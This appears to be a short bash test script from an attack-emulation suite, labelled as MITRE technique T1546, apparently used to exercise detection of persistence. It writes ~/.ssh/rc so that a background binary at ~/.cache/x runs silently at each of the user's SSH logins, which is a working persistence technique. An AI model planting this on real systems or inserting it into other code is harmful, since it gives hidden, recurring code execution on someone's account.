#!/usr/bin/env bash
# attack: T1546 Persist in ~/.ssh/rc, which sshd runs at each of that user's logins
. "$(dirname "$0")/lib/common.sh"
mkhome
mkdir -p "$HOME/.ssh"
printf 'nohup %s/.cache/x >/dev/null 2>&1 &\n' "$HOME" >"$HOME/.ssh/rc"
